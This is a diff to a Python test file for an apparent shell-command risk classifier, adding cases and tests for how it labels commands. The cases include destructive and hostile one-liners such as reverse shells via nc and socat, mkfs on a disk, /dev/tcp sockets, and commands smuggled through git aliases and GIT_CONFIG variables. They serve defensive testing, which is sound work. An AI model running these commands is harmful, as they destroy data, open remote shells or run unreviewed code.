@@ -81,8 +81,8 @@ CASES = {
     "shell of somebody else": ("sudo -i", {"as-other", "root-shell"}),
     "container": ("docker run --privileged a b", {"container"}),
     "service": ("systemctl stop a", {"machine"}),
-    "file system": ("mkfs.ext4 /dev/sda", {"machine"}),
-    "file system in a file": ("mkfs.ext4 ./a", set()),
+    "file system": ("mkfs.ext4 /dev/sda", {"disk"}),
+    "file system in a file": ("mkfs.ext4 ./a", {"disk"}),
     "signatures shown": ("wipefs /dev/sda", set()),
     "crontab": ("crontab a", {"later"}),
     "pkill": ("pkill a", {"processes"}),
@@ -100,6 +100,18 @@ CASES = {
     "shell for a machine": ("nc -e /bin/sh b 1", {"talk", "code.unknown"}),
     "socat": ("socat TCP-LISTEN:1 EXEC:/bin/sh", {"talk", "code.unknown"}),
     "ssh": ("ssh b ls", {"elsewhere"}),
+    "code from an input": ("echo ls | xargs -I{} bash -c {}", {"code.unknown"}),
+    "code that nobody feeds": ("curl --version | bash", set()),
+    "restore of what is chosen": ("git restore -p", {"git.restore"}),
+    "restore of nothing": ("git restore -p --no-patch", set()),
+    "alias of a command that git has": ("git -c 'alias.status=reset --hard' status", set()),
+    "alias": ("git -c 'alias.a=reset --hard' a", {"git.reset"}),
+    "gc, abbreviated": ("git gc --p=now", {"git.prune"}),
+    "reading a socket": ("cat < /dev/tcp/a/1", set()),
+    "a program for git, in numbers": (
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=ssh git push",
+        {"git.program", "git.push", "elsewhere", *(f"variable.GIT_CONFIG_{name}" for name in ("COUNT", "KEY_0", "VALUE_0"))},
+    ),
     "socket": ("exec 3>/dev/tcp/a/1", {"socket"}),
 }
 
@@ -130,3 +142,18 @@ def test_every_act_is_listed() -> None:
     assert {act.partition(".")[0] for act in ACTS} >= {
         act.partition(".")[0] for _, found in CASES.values() for act in found
     }
+
+
+def test_words_of_a_declaration_are_read_before_any_is_assigned() -> None:
+    found = effects('A=ls; export A=rm B=$A; "$B" -r x', CWD, ENV)
+    assert [command.program for command in found.commands] == ["export", "ls"]
+
+
+def test_a_value_of_find_is_no_action() -> None:
+    assert not [one for one in effects("find . -samefile -delete -print", CWD, ENV).effects if one.kind == "delete"]
+
+
+def test_powershell_that_shows_something_is_understood() -> None:
+    assert effects("pwsh -NoProfile -Command 'Get-ChildItem src'", CWD, ENV).understood
+    assert not effects("pwsh -Command 'Get-ChildItem | Remove-Item'", CWD, ENV).understood
+    assert not effects("powershell -Command 'Remove-Item x'", CWD, ENV).understood
